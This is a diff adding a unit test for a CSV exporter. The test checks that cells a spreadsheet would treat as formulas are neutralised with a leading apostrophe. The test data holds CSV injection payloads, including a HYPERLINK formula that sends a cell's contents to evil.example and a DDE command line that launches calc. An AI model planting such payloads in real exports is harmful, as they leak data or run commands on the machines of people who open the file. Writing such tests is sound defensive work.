@@ -103,4 +103,24 @@ describe('CSV', () => {
   it('quotes what needs quoting and leaves numbers as the API sent them', () => {
     expect(toCsv(['page', 'visitors'], [['/a,b', 3], ['/"q"', null], ['/x', 1.5]])).toBe('page,visitors\r\n"/a,b",3\r\n"/""q""",\r\n/x,1.5\r\n')
   })
+
+  it('neutralises text that a spreadsheet would run as a formula, never a number', () => {
+    const rows: [string, number][] = [
+      ['=HYPERLINK("http://evil.example/?"&A1,"x")', 1],
+      ["+cmd|' /C calc'!A0", -2],
+      ['-2+3', 3],
+      ['@SUM(1)', 4],
+      ['\t=1', 5],
+      ['\r=1', 6],
+    ]
+    expect(toCsv(['name', 'visitors'], rows)).toBe(
+      'name,visitors\r\n' +
+        `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",1\r\n` +
+        "'+cmd|' /C calc'!A0,-2\r\n" +
+        "'-2+3,3\r\n" +
+        "'@SUM(1),4\r\n" +
+        "'\t=1,5\r\n" +
+        `"'\r=1",6\r\n`,
+    )
+  })
 })
